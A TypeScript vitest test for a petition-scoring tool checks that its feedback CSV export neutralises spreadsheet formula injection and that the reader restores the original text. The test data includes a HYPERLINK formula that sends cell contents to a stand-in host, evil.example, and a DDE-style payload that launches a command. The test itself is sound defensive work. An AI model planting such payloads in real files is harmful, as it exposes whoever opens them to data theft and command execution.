import { parse } from 'csv-parse/sync';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Engine } from '../src/engine.js';
import { readLabelledCsv } from '../src/ingest/labelled-csv.js';
import { loadRules } from '../src/signals/rules/load-rules.js';
import { SqliteStore } from '../src/storage/sqlite-store.js';
import { thresholds } from './helpers/engine.js';
import { sitoSync, tempDir } from './helpers/sito-process.js';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';

describe('sito feedback export: cells a spreadsheet would evaluate', () => {
  it('prefixes every cell that begins with = + - @ TAB or CR with a quote, in every column, and sito train reads it back as written', async () => {
    const dir = tempDir();
    const store = SqliteStore.open(dir);
    const engine = new Engine({ rules: loadRules(), thresholds, store });
    const petitions = [
      { id: '=1+1', text: FORMULA, subject: '+cmd|" /C calc"!A0', sender: { email: '@SUM(1+1)' } },
      { id: '-2', text: '\tTAB na początku', subject: '\rCR', sender: { email: '-a@b.pl' } },
      { id: 'zwykla', text: 'Prośba o ławkę przy ul. Polnej.', subject: 'Ławka', sender: { email: 'jan@example.pl' } },
    ];
    for (const p of petitions) await engine.score({ ...p, store: true });
    for (const p of petitions) await store.addFeedback({ petition_id: p.id, label: 'mass', login: '=evil', at: new Date().toISOString() });
    await store.close();

    const out = sitoSync(['feedback', 'export'], { env: { SITO_DATA_DIR: dir } });
    expect(out.status, out.stderr).toBe(0);
    const rows = parse(out.stdout) as string[][];
    expect(rows).toHaveLength(4);
    for (const row of rows) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    const [header, ...body] = rows;
    const col = (name: string) => header!.indexOf(name);
    expect(body[0]![col('text')]).toBe(`'${FORMULA}`);
    expect(body[0]![col('id')]).toBe(`'=1+1`);
    expect(body[0]![col('subject')]).toBe(`'+cmd|" /C calc"!A0`);
    expect(body[0]![col('sender_email')]).toBe(`'@SUM(1+1)`);
    expect(body[0]![col('marked_by')]).toBe(`'=evil`);
    expect(body[1]![col('text')]).toBe(`'\tTAB na początku`);
    expect(body[1]![col('subject')]).toBe(`'\rCR`);
    expect(body[2]![col('text')]).toBe('Prośba o ławkę przy ul. Polnej.');

    // the labelled-CSV reader undoes the prefix, so a model trains on the text as the petitioner wrote it
    const file = join(dir, 'export.csv');
    writeFileSync(file, out.stdout);
    const read = [];
    for await (const r of readLabelledCsv(file)) read.push(r);
    expect(read.map((r) => r.text)).toEqual(petitions.map((p) => p.text));
    expect(read[0]!.id).toBe('=1+1');
  });
});
